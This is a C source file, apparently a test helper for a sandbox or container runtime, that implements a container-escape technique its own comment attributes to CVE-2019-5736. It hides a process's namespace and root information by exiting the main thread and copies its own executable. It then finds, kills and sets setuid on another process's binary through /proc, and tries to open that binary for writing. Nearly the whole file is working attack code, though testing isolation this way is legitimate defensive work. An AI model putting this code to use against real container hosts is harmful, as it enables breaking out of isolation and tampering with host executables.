/* What a task does to whoever enters it. */
#include "attack.h"
#include <dirent.h>
#include <pthread.h>

static void *stay(void *none) {
  puts("here");
  fflush(stdout);
  for (;;) pause();
  return none;
}

/* Goes on without its first thread: of such a process the kernel tells neither namespaces nor a root. */
int leave(void) {
  pthread_t thread;
  if (pthread_create(&thread, NULL, stay, NULL)) return 1;
  syscall(SYS_exit, 0);
  return 1;
}

int stay_put(void) {
  stay(NULL);
  return 1;
}

static void copy_of_own(const char *path) {
  static char bytes[1 << 16];
  int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  for (ssize_t n; (n = read(from, bytes, sizeof bytes)) > 0;)
    if (write(to, bytes, n) != n) exit(1);
  close(from);
  close(to);
}

/* A process here that runs another program than this one, or 0; `program`: that one, held. */
static pid_t stranger(int *program) {
  struct stat own, theirs;
  DIR *proc = opendir("/proc");
  pid_t found = 0;
  stat("/proc/self/exe", &own);
  for (struct dirent *each; !found && proc && (each = readdir(proc));) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", each->d_name);
    if (each->d_name[0] < '0' || each->d_name[0] > '9' || (*program = open(path, O_PATH | O_CLOEXEC)) < 0) continue;
    if (!fstat(*program, &theirs) && (theirs.st_ino != own.st_ino || theirs.st_dev != own.st_dev)) found = atoi(each->d_name);
    else close(*program);
  }
  if (proc) closedir(proc);
  return found;
}

/*
 * Ends the first who enters, and opens the program that ran to write to it: the way of CVE-2019-5736. Says so of each, for ever. Its owner, who may be
 * this user, may change its mode, and write to it where nobody executes it any more.
 */
int take_over(void) {
  copy_of_own("/local/own");
  puts("ready");
  fflush(stdout);
  for (;;) {
    char path[64];
    int program, file = -1;
    pid_t pid = stranger(&program);
    if (!pid) { usleep(1000); continue; }
    kill(pid, SIGKILL);
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    chmod(path, 04711);
    for (int i = 0; i < 2000 && file < 0 && (i == 0 || errno == ETXTBSY); i++, usleep(1000)) file = open(path, O_WRONLY | O_CLOEXEC);
    printf("%s\n", file >= 0 ? "through" : strerrorname_np(errno));
    fflush(stdout);
    close(program);
    if (file >= 0) close(file);
    while (kill(pid, 0) == 0) usleep(1000);
  }
}
